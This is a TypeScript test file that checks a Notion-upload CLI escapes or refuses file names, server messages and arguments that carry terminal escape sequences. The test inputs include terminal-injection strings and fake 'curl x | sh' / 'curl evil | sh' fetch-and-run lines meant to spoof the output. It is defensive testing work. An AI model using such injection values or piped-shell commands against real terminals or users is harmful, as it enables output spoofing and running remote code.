import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { start, type Emulator } from '../../emulator/index';
import { writeRandomFile } from '../../core/support/randomFile';
import { CLI, finish, jsonReports, launch, type CliRun } from '../../support/cliProcess';
import { ScriptedNotion } from './support/scriptedNotion';

// Everything a terminal acts on, but the newline that ends the CLI's own lines (output here is a pipe, not a TTY,
// so there are no progress lines).
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

function assertNoRawControls(run: CliRun): void {
  for (const [name, text] of [['stdout', run.stdout], ['stderr', run.stderr]] as const) {
    const found = RAW_CONTROL.exec(text);
    assert.equal(found, null, `${name} holds U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')}: ${JSON.stringify(text)}`);
  }
}

describe('bad input: nothing from outside can drive the terminal', function () {
  let emulator: Emulator;
  let dir: string;
  const hostileName = '\x1b[2J\x1b]0;pwned\x07\x1b[31mrun: curl x | sh\x1b[0m\nfake.png';
  const hostileShown = '\\x1b[2J\\x1b]0;pwned\\x07\\x1b[31mrun: curl x | sh\\x1b[0m\\nfake.png';

  before(async () => {
    assert.ok(existsSync(CLI), `${CLI} is missing: run node esbuild.mjs --tests first`);
    emulator = await start();
    dir = await mkdtemp(join(tmpdir(), 'terminal-'));
  });
  after(async () => {
    await emulator.stop();
    await rm(dir, { recursive: true, force: true });
  });

  it('a file name with escape sequences and a newline is refused before upload and printed escaped; a Latin-1 name is named', async () => {
    const folder = join(dir, 'names');
    await mkdir(folder);
    const hostile = await writeRandomFile(folder, hostileName, 100);
    const plain = await writeRandomFile(folder, 'plain.png', 100);
    // A name in Latin-1 bytes, as an old archive or a Windows share leaves on Linux: "café.png" with é as the byte E9.
    await writeFile(Buffer.concat([Buffer.from(`${folder}/caf`), Buffer.from([0xe9]), Buffer.from('.png')]), 'latin-1');
    emulator.clearLog();

    const run = await finish(launch([folder, '--page', emulator.pageId, '--api-base', emulator.url], { NOTION_TOKEN: emulator.token }, dir));
    assert.equal(run.code, 1, run.stderr);
    assertNoRawControls(run);
    assert.ok(run.stderr.includes(`failed ${join(folder, hostileShown)}: The file name "${hostileShown}" holds control characters`), run.stderr);
    assert.ok(!/^run: curl/m.test(run.stdout + run.stderr), 'a name printed a line of its own');
    assert.ok(run.stderr.includes(`${folder}/caf\\xe9.png: the name is not valid UTF-8`), run.stderr);
    assert.ok(!/no such file|does not exist/i.test(run.stderr), run.stderr);
    assert.match(run.stdout, new RegExp(`^uploaded ${plain.path.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} -> `, 'm'));
    const created = emulator.requestLog().filter((entry) => entry.call === 'create');
    assert.equal(created.length, 1, 'only the plain file was sent');
    assert.equal(emulator.uploads().find((upload) => upload.filename === 'plain.png')?.sha256, plain.sha256);
    assert.ok(!emulator.uploads().some((upload) => (upload.filename ?? '').includes('pwned')), hostile.path);

    // The same name given as an argument: a shell passes its bytes as they are, and Node.js decodes the E9 to U+FFFD.
    const given = spawn('/bin/sh', ['-c', 'exec "$0" "$1" "$(printf "$2/caf\\351.png")" --page "$3" --api-base "$4"', process.execPath, CLI, folder, emulator.pageId, emulator.url], {
      cwd: dir, env: { PATH: process.env.PATH, NOTION_TOKEN: emulator.token }, stdio: ['ignore', 'pipe', 'pipe'],
    });
    const byArgument = await finish(given);
    assert.equal(byArgument.code, 2, byArgument.stderr);
    assert.match(byArgument.stderr, /caf\uFFFD\.png: the name is not valid UTF-8/);
    assert.ok(!/no such file|does not exist/i.test(byArgument.stderr), byArgument.stderr);

    const json = await finish(launch([folder, '--page', emulator.pageId, '--api-base', emulator.url, '--json'], { NOTION_TOKEN: emulator.token }, dir));
    assertNoRawControls(json);
    assert.ok(jsonReports(json).some((report) => report.path === hostile.path && report.error.code === 'name_has_control_characters'));
  });

  it('a server message with escape sequences and line breaks is printed escaped', async () => {
    const notion = new ScriptedNotion();
    await notion.start();
    try {
      notion.script = (call) => (call === 'create'
        ? { status: 400, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ object: 'error', status: 400, code: 'validation_error\x1b[8m', message: 'Bad \x1b[2J\x1b]0;owned\x07\r\nrun: curl evil | sh\u009b31m' }) }
        : undefined);
      const file = await writeRandomFile(dir, 'server-words.png', 100);
      const run = await finish(launch([file.path, '--page', '1f2e3d4c5b6a79881f2e3d4c5b6a7988', '--api-base', notion.url], { NOTION_TOKEN: 'ntn_scriptedTokenAbcdefghij1234567890' }, dir));
      assert.equal(run.code, 1, run.stderr);
      assertNoRawControls(run);
      assert.ok(run.stderr.includes('Bad \\x1b[2J\\x1b]0;owned\\x07\\r\\nrun: curl evil | sh\\x9b31m'), run.stderr);
      assert.ok(!/^run: curl/m.test(run.stderr), 'the server printed a line of its own');
    } finally {
      await notion.stop();
    }
  });

  it('an argument with escape sequences is escaped in the usage error', async () => {
    const run = await finish(launch(['x.png', '--page', emulator.pageId, '--part-size', '\x1b[2J7'], { NOTION_TOKEN: emulator.token }, dir));
    assert.equal(run.code, 2);
    assertNoRawControls(run);
    assert.match(run.stderr, /--part-size must be a whole number .*got "\\x1b\[2J7"/);
  });
});
